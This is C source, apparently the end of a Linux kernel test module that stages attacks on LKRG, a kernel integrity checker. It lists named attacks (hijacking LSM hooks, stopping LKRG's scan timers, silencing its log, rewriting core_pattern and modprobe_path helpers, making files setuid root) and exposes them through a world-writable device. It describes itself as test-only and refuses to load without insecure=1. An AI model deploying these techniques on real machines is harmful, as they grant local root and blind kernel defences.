	ATTACK("lsm-call", redirect_lsm_call,
	       "where the static call of a hook of security modules leads"),
	ATTACK("lsm-key", disable_lsm_key, "whether there is that hook"),
	ATTACK("lsm-table", flip_lsm_table, "the table of hooks of a security module"),
	ATTACK("lsm-text", patch_lsm_call, "the hook is not called any more"),
	ATTACK("lsm-poke", poke_lsm_call, "another function is called"),
	ATTACK("lsm-restore", restore_lsm, "the hook as it was"),
	ATTACK("probe-guard", probe_guard, "kprobes in functions of lkrg"),
	ATTACK("scan-timer", delete_timer, "no timer starts the next pass"),
	ATTACK("scan-timer-late", delay_timer, "the next pass comes next year"),
	ATTACK("scan-watch", delete_watch, "nobody watches the passes"),
	ATTACK("scan-dequeue", dequeue_work, "the next pass out of its queue"),
	ATTACK("scan-block", block_passes, "passes wait for a lock"),
	ATTACK("scan-hog", hog_passes, "the lock is taken again and again, for 1 s"),
	ATTACK("scan-hog-tracing", hog_tracing, "the same with that of ftrace"),
	ATTACK("scan-release", release_passes, "which is released"),
	ATTACK("scan-ring", close_ring, "a list that has no end"),
	ATTACK("scan-end", open_ring, "which has one again"),
	{
		.name = "event-exit",
		.what = "tasks have exited, it seems",
		.run = raise_event,
		.field = TRIGGER_EXIT,
	},
	{
		.name = "event-munmap",
		.what = "memory was unmapped, it seems",
		.run = raise_event,
		.field = TRIGGER_MUNMAP,
	},
	{
		.name = "policy-kint_enforce",
		.what = "lkrg.kint_enforce becomes 0",
		.run = overwrite_setting,
		.field = SETTING_KINT_ENFORCE,
	},
	{
		.name = "policy-interval",
		.what = "lkrg.interval becomes 0",
		.run = overwrite_setting,
		.field = SETTING_INTERVAL,
	},
	ATTACK("policy-booted", overwrite_booted, "the machine seems to boot"),
	ATTACK("log-silence", silence_log, "nothing is logged any more"),
	ATTACK("reports-hold", hold_reports, "nobody is sent for reports any more"),
	ATTACK("reports-release", release_reports, "somebody is"),
	ATTACK("log-restore", restore_log, "the log as it was"),
	NAME("core_pattern", CORE_PATTERN),
	NAME("modprobe_path", MODPROBE_PATH),
	NAME("poweroff_cmd", POWEROFF_CMD),
	NAME("uevent_helper", UEVENT_HELPER),
	NAME("mce_helper", MCE_HELPER),
	NAME("umh_allow", UMH_ALLOW),
	{
		.name = "helper-page",
		.what = "core_pattern names it, by a page of somebody else",
		.run = overwrite_page_of_name,
		.field = CORE_PATTERN,
	},
	ATTACK("helper-link", redirect_link, "target leads to it"),
	ATTACK("helper-link-restore", restore_link, "target leads where it led"),
	ATTACK("helper-request_key", overwrite_request_key,
	       "keys are constructed by a program in /tmp"),
	ATTACK("helper-release_agent", overwrite_release_agent,
	       "a hierarchy of control groups names the helper"),
	{
		.name = "sysctl-core_pattern",
		.what = "everybody may write core_pattern",
		.run = open_sysctl,
		.field = 0,
	},
	{
		.name = "sysctl-protected_symlinks",
		.what = "everybody may write protected_symlinks",
		.run = open_sysctl,
		.field = 1,
	},
	ATTACK("sysfs-file", open_sysfs_file, "everybody may write the file"),
	ATTACK("write-restore", close_files, "only root may, as before"),
	ATTACK("umh-run", run_helper, "the kernel starts the helper"),
	ATTACK("umh-library", run_helper_with_library, "and it loads a library"),
	ATTACK("umh-long", run_helper_at_length, "and its arguments are long"),
	LATE("umh-late", PROGRAM_LATE, "it is another program"),
	LATE("umh-late-argument", ARGUMENT_LATE, "it gets another argument"),
	LATE("umh-late-library", LIBRARY_LATE, "it has another environment"),
	{
		.name = "core-late",
		.what = "the next core dump goes to the file that the helper was",
		.run = lead_cores,
		.field = true,
	},
	ATTACK("core-late-restore", lead_cores, "core dumps go where they went"),
	ATTACK("umh-changed", run_changed_helper,
	       "and it gets another argument than was prepared"),
	ATTACK("variable", overwrite_variable, "the variable gets the value"),
	ATTACK("variable-declared", declare_variable, "and root said so"),
	ATTACK("variable-record", overwrite_variable_and_record,
	       "and so does what lkrg knows of it"),
	ATTACK("variable-taints", overwrite_flags_declared,
	       "lkrg does not know what has tainted the kernel"),
	ATTACK("variable-file", read_while_no_cpu_may_come,
	       "a file is read, as firmware of CPUs is: honest"),
	ATTACK("ftrace-kill", call_ftrace_kill,
	       "no function is traced any more, as when that fails: honest"),
	MODE("inode-suid", add_to_mode, S_ISUID, "target becomes setuid"),
	MODE("inode-sgid", add_to_mode, S_ISGID, "target becomes setgid"),
	MODE("inode-open", add_to_mode, 0666, "everybody may open target"),
	ATTACK("inode-private", make_private, "no hook is called for target"),
	ATTACK("inode-uid", take_uid, "target becomes root's"),
	ATTACK("inode-owner", give_uid, "target becomes a user's"),
	ATTACK("inode-gid", take_gid, "target becomes that of root's group"),
	ATTACK("inode-root", make_setuid_root, "target becomes setuid root"),
	MODE("inode-record", add_to_both_modes, S_ISUID,
	     "target becomes setuid, on record as well"),
	MODE("inode-blank", add_to_mode_without_record, S_ISUID,
	     "target becomes setuid, and there is no record"),
	MODE("inode-write", add_to_mode, 0777, "everybody may write to target"),
	MODE("inode-flash", flash_mode, S_ISUID,
	     "target is setuid while execve() reads that"),
	ATTACK("inode-restore", restore_inode, "target as it was"),
	ATTACK("super-flag", disown_super, "the file system seems to be the kernel's"),
	ATTACK("super-blank", disown_super_without_record,
	       "the same, and there is no record"),
	ATTACK("super-restore", restore_super, "the file system as it was"),
	ATTACK("event-idle", raise_idle, "events as of a CPU that becomes idle"),
	ATTACK("event-cpufreq", raise_cpufreq, "as of another frequency"),
	ATTACK("event-storm", raise_storm, "20,000 times as of a USB device"),
	ATTACK("event-mce", tell_of_machine_check, "as of a machine check"),
	ATTACK("event-poweroff", power_off, "the machine is to be switched off"),
	ATTACK("event-key", want_key, "a key is to be constructed"),
	ATTACK("event-acpi", raise_acpi, "as of a power button"),
};

/* === The device ========================================================= */

/* Serializes the attacks, and with it the two records of changes. */
static DEFINE_MUTEX(attack_lock);

static int run_attack(const struct attack *attack)
{
	struct task_struct *task = current;
	int err;

	rcu_read_lock();
	if (attack->on_parent)
		task = rcu_dereference(current->real_parent);
	get_task_struct(task);
	rcu_read_unlock();

	mutex_lock(&attack_lock);
	err = attack->run(task, attack->field);
	mutex_unlock(&attack_lock);
	put_task_struct(task);
	return err;
}

static int run_named(const char *name)
{
	size_t i;

	for (i = 0; i < ARRAY_SIZE(attacks); i++) {
		if (sysfs_streq(name, attacks[i].name))
			return run_attack(&attacks[i]);
	}
	return -EINVAL;
}

static ssize_t attack_write(struct file *file, const char __user *buf,
			    size_t count, loff_t *ppos)
{
	char *name;
	int err;

	if (count > NAME_MAX)
		return -EINVAL;
	name = memdup_user_nul(buf, count);
	if (IS_ERR(name))
		return PTR_ERR(name);
	err = run_named(name);
	kfree(name);
	return err ?: count;
}

static int attack_show(struct seq_file *m, void *v)
{
	size_t i;

	for (i = 0; i < ARRAY_SIZE(attacks); i++)
		seq_printf(m, "%-20s %s\n", attacks[i].name, attacks[i].what);
	return 0;
}

static int attack_open(struct inode *inode, struct file *file)
{
	/* misc_open() left the miscdevice here, seq_file wants the place */
	file->private_data = NULL;
	return single_open(file, attack_show, NULL);
}

static const struct file_operations attack_fops = {
	.owner = THIS_MODULE,
	.open = attack_open,
	.read = seq_read,
	.write = attack_write,
	.llseek = seq_lseek,
	.release = single_release,
};

static struct miscdevice attack_device = {
	.minor = MISC_DYNAMIC_MINOR,
	.name = "lkrg_attack",
	.fops = &attack_fops,
	.mode = 0666,
};

static void hide_now(struct work_struct *work)
{
	int err = run_named(hide);

	if (err)
		pr_err("%s: %d\n", hide, err);
}

static DECLARE_DELAYED_WORK(hide_work, hide_now);

static int __init attack_init(void)
{
	int err;

	if (!insecure) {
		pr_err("not loaded: it makes every user root; insecure=1 loads it into a test machine\n");
		return -ENODEV;
	}

	err = misc_register(&attack_device);
	if (err)
		return err;

	pr_warn("every user of this machine can change its kernel through /dev/%s\n",
		attack_device.name);
	if (hide && hide_after)
		schedule_delayed_work(&hide_work, hide_after * HZ);
	else if (hide)
		hide_now(NULL);
	if (!leave)
		return 0;
	cancel_delayed_work_sync(&hide_work);
	misc_deregister(&attack_device);
	return -ENODEV;
}

static void __exit attack_exit(void)
{
	misc_deregister(&attack_device);
	cancel_delayed_work_sync(&hide_work);
	cancel_delayed_work_sync(&stay_work);
	end_ambushes();
	stop_sleeper(NULL, 0);
	map_as_before(NULL, 0);
	restore_cpu(NULL, 0);
	restore_gate(NULL, 0);
	restore_hook(NULL, 0);
	restore_many_hooks(NULL, 0);
	restore_memory(NULL, 0);
	restore_many_aliases(NULL, 0);
	restore_code(NULL, 0);
	unregister_hooks(NULL, 0);
	stop_lying(NULL, 0);
	free_hooks();
	release_passes(NULL, 0);
	open_ring(NULL, 0);
	restore_log(NULL, 0);
	restore_inode(NULL, 0);
	restore_super(NULL, 0);
	close_files(NULL, 0);
	restore(&lsm_change);
	restore(&text_change);
	restore(&rodata_change);
	restore(&module_text_change);
	restore(&module_rodata_change);
	restore(&module_late_change);
}

module_init(attack_init);
module_exit(attack_exit);

MODULE_DESCRIPTION("Attacks on the running kernel, for tests of lkrg");
MODULE_LICENSE("GPL");
/* Taints the kernel with TAINT_TEST. */
MODULE_INFO(test, "Y");
